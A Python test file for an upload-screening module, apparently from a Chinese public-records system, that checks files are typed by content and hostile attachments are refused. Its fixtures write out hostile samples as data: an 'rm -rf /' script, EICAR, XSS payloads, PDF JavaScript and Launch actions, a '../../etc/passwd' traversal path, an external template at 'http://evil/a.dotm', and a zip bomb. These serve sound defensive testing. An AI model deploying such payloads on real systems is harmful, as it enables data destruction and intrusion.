"""Files are told by their content, and what could do harm is refused with the reason."""

import zlib

import pytest

from documents.attachments import samples
from gongkai.documents.attachments.kinds import DOCX, JPEG, OFD, PDF, PNG, TXT, XLSX
from gongkai.documents.attachments.refusals import AttachmentRefused
from gongkai.documents.attachments.sniffing import kind_of
from gongkai.documents.attachments.taking import Limits, inspected, taken_in

SOUND = [
    ("身份证.pdf", samples.PDF, PDF),
    ("申请.docx", samples.package(), DOCX),
    ("清单.xlsx", samples.package(main="xl/workbook.xml"), XLSX),
    ("公文.ofd", samples.package(main="OFD.xml"), OFD),
    ("照片.jpg", samples.jpeg(), JPEG),
    ("照片.JPEG", samples.jpeg(), JPEG),
    ("扫描.png", samples.png(), PNG),
    ("说明.txt", "申请公开某文件。\r\n谢谢".encode(), TXT),
    ("说明.txt", "申请公开某文件".encode("gb18030"), TXT),
]


@pytest.mark.parametrize(("name", "content", "kind"), SOUND)
def test_sound_files_are_taken_in_as_what_they_are(name, content, kind):
    file = inspected(name, content)
    assert (file.media_type, file.content) == (kind.media_type, content)


@pytest.mark.parametrize(("name", "content", "kind"), SOUND)
def test_a_name_without_ending_gets_the_true_one(name, content, kind):
    assert inspected("我的材料", content).name == f"我的材料.{kind.endings[0]}"


@pytest.mark.parametrize(("name", "content", "kind"), SOUND)
@pytest.mark.parametrize("ending", ["exe", "html", "doc", "pdf", "png", "txt"])
def test_an_ending_that_lies_is_refused(name, content, kind, ending):
    if ending in kind.endings:
        return
    with pytest.raises(AttachmentRefused, match="两者不符"):
        inspected(f"材料.{ending}", content)


def packed(inside):
    return (
        b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
        + zlib.compress(inside)
        + b"\nendstream\nendobj"
    )


REFUSED = [
    ("空白", b"", "是空的"),
    ("只有空白", b" \r\n\0\0", "是空的"),
    ("程序", b"MZ\x90\0" + b"\0" * 100, "程序文件"),
    ("程序", b"\x7fELF" + b"\0" * 100, "程序文件"),
    ("脚本", b"#!/bin/sh\nrm -rf /\n", "脚本文件"),
    ("压缩", b"Rar!\x1a\x07\x00", "压缩包"),
    ("压缩", samples.package(main="a.txt"), "压缩包"),
    ("旧文档", samples.OLE, "旧版Office"),
    ("测试病毒", samples.EICAR, "恶意文件"),
    ("文档里的病毒", samples.package({"word/media/a.txt": samples.EICAR}), "恶意文件"),
    ("网页", b"<html><script>alert(1)</script>", "含有宏、脚本"),
    ("图形", b"<svg onload='alert(1)'>", "含有宏、脚本"),
    ("乱码", bytes(range(256)), "无法识别"),
    ("宏", samples.package({"word/vbaProject.bin": samples.OLE}), "含有宏"),
    ("对象", samples.package({"word/embeddings/oleObject1.bin": samples.OLE}), "含有宏"),
    ("控件", samples.package({"word/activeX/activeX1.xml": b"<a/>"}), "含有宏"),
    ("夹带程序", samples.package({"word/embeddings/a.exe": b"MZ"}), "含有宏"),
    ("实体", samples.package({"word/a.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}), "含有宏"),
    (
        "外部模板",
        samples.package(
            {
                "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" '
                b'Type="http://x/attachedTemplate" Target="http://evil/a.dotm" '
                b'TargetMode="External"/></Relationships>'
            }
        ),
        "外部引用",
    ),
    ("越界路径", samples.package({"../../etc/passwd": b"x"}), "已损坏"),
    ("加密文档", samples.locked_package(), "设有密码"),
    ("截断的文档", samples.package()[:-30], "已损坏"),
    ("炸弹", samples.package({"word/a.xml": b"0" * (40 << 20)}), "不相称"),
    ("太多部分", samples.package({f"a/{n}": b"x" for n in range(2001)}), "不相称"),
    ("截断的PDF", samples.PDF[:40], "已损坏"),
    ("加密PDF", samples.pdf(b"5 0 obj << /Encrypt 6 0 R >> endobj"), "设有密码"),
    ("脚本PDF", samples.pdf(b"5 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj"), "含有宏"),
    ("转义PDF", samples.pdf(b"5 0 obj << /S /J#61vaScript >> endobj"), "含有宏"),
    ("启动PDF", samples.pdf(b"5 0 obj << /S /Launch >> endobj"), "含有宏"),
    ("夹带PDF", samples.pdf(b"5 0 obj << /EmbeddedFiles 6 0 R >> endobj"), "含有宏"),
    ("压缩脚本PDF", samples.pdf(packed(b"1 0 << /S /JavaScript >>")), "含有宏"),
    ("巨图", samples.png(60000, 60000), "过大"),
    ("巨图", samples.jpeg(60000, 60000), "过大"),
    ("无尺寸", samples.png(0, 10), "已损坏"),
    ("截断的图", b"\xff\xd8\xff\xe0", "已损坏"),
]


@pytest.mark.parametrize(("name", "content", "why"), REFUSED)
def test_hostile_files_are_refused_with_name_and_reason(name, content, why):
    with pytest.raises(AttachmentRefused) as refused:
        kind_of(content, name)
    assert f"“{name}”" in str(refused.value) and why in str(refused.value)


def test_a_hyperlink_in_a_document_is_no_reason():
    rels = (
        b'<Relationship Id="r1" Type="http://x/hyperlink" Target="http://a" TargetMode="External"/>'
    )
    assert kind_of(samples.package({"word/_rels/document.xml.rels": rels}), "a") is DOCX


def test_a_pattern_of_the_offices_own_is_looked_for_inside_packages():
    content = samples.package({"word/a.xml": b"<a>" + b"z" * (1 << 20) + b"KNOWN-BAD" + b"</a>"})
    with pytest.raises(AttachmentRefused, match="恶意文件"):
        kind_of(content, "a", {"own": b"KNOWN-BAD"})


def test_limits_bind_each_file_their_number_and_their_sum():
    limits = Limits(files=3, one=100, together=150)
    given = [("a.txt", b"a" * 90), ("b.txt", b"b" * 101), ("c.txt", b"c" * 70), ("d.exe", b"MZ")]
    taken = taken_in([*given, ("e.txt", b"e"), ("f.txt", b"f"), ("g.txt", b"g")], limits)
    assert [file.name for file in taken.files] == ["a.txt", "e.txt", "f.txt"]
    assert len(taken.refusals) == 4
    assert "g.txt" in taken.refusals[-1] and "最多3个" in taken.refusals[-1]
    assert taken_in([("a.txt", b"a")], limits, held=[1, 1, 1]).files == ()
